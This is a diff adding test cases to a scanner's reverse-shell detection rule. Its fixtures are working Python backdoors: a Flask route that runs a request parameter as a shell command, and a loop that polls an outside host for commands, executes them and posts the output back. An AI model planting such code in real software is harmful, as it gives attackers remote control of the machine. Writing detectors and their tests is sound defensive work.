@@ -29,3 +29,18 @@ describe('reverse-shell: a chat bot as the remote console', () => {
     expect(hits('reverse-shell', { 'pkg/bot.py': src })).toEqual([]);
   });
 });
+
+describe('reverse-shell: web routes and polling loops as the remote console', () => {
+  it('holds a Flask route that runs a request parameter (high)', () => {
+    const src = `import subprocess, flask\nfrom flask import request\napp = flask.Flask(__name__)\n@app.route('/bs4')\ndef bs4():\n    out = subprocess.Popen(request.args.get('parser'), shell=True, stdout=subprocess.PIPE)\n    return out.stdout.read().decode()\n`;
+    expect(maxSev(hits('reverse-shell', { 'pkg/tools.py': src }))).toBe('high');
+  });
+  it('holds a loop that fetches commands, runs them through a helper and posts the output (high)', () => {
+    const src = `import time, subprocess, requests\ndef debug():\n    link = "https://ba-ace.anondns.net/"\n    while True:\n        resp = requests.get(link).text\n        out = runcommand(resp)\n        requests.post(link + "output", {"o": out})\n        time.sleep(1)\ndef runcommand(value):\n    return subprocess.run(value, shell=True, capture_output=True).stdout\n`;
+    expect(maxSev(hits('reverse-shell', { 'pkg/__init__.py': src }))).toBe('high');
+  });
+  it('does not flag an updater that fetches twice and runs its own argv through a helper', () => {
+    const src = `import subprocess, sys, requests\ndef update():\n    v = requests.get("https://pypi.org/pypi/pkg/json").json()["info"]["version"]\n    requests.get("https://example.org/changelog")\n    run([sys.executable, "-m", "pip", "install", "pkg==" + v])\ndef run(argv):\n    return subprocess.run(argv, check=True)\n`;
+    expect(hits('reverse-shell', { 'pkg/update.py': src })).toEqual([]);
+  });
+});
